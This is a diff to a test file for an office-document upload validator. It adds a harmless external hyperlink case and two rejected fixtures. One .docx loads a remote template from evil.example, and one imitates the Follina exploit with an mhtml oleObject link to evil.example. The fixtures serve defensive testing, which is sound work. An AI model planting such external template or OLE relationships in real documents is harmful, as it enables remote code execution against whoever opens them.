@@ -115,7 +115,10 @@ ACCEPTED = {
     "ใบเสร็จ.txt": ("ขอบคุณค่ะ\n".encode(), "text/plain"),
     "rates.csv": (b"plan,price\nbasic,10\n", "text/csv"),
     "steps.md": ("# مراحل\n- یک\n".encode(), "text/markdown"),
-    "form.docx": (ooxml("word/", "document.xml"), OOXML + "wordprocessingml.document"),
+    "form.docx": (ooxml("word/", "document.xml", {"word/_rels/document.xml.rels": (
+        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/hyperlink" Target="https://example.com/help" '
+        'TargetMode="External"/></Relationships>')}), OOXML + "wordprocessingml.document"),
     "prices.xlsx": (ooxml("xl/", "workbook.xml"), OOXML + "spreadsheetml.sheet"),
     "deck.pptx": (ooxml("ppt/", "presentation.xml"), OOXML + "presentationml.presentation"),
     "letter.odt": (odf("text"), ODF + "text"),
@@ -177,6 +180,16 @@ BAD_CONTENT = {
     "basic.odt": (odf("text", {"Basic/Standard/Module1.xml": "<module/>"}),
                   "it contains macros (Basic/ or Scripts/)"),
     "sheet-as.odt": (odf("spreadsheet"), "it is not an OpenDocument file of type"),
+    "template.docx": (ooxml("word/", "document.xml", {"word/_rels/settings.xml.rels": (
+        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/'
+        't.dotm" TargetMode="External"/></Relationships>')}),
+        "it loads a template or object from elsewhere (word/_rels/settings.xml.rels)"),
+    "follina.docx": (ooxml("word/", "document.xml", {"word/_rels/document.xml.rels": (
+        "<Relationships><Relationship Id='r9' Target = 'mhtml:http://evil.example/x!y' "
+        "TargetMode = 'External' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
+        "relationships/oleObject'/></Relationships>")}),
+        "it loads a template or object from elsewhere"),
     # found by trying: these raised NotImplementedError, zlib.error and RuntimeError
     "method99.docx": (with_zip_flags(ooxml("word/", "document.xml"), method=99),
                       "its part [Content_Types].xml cannot be read"),
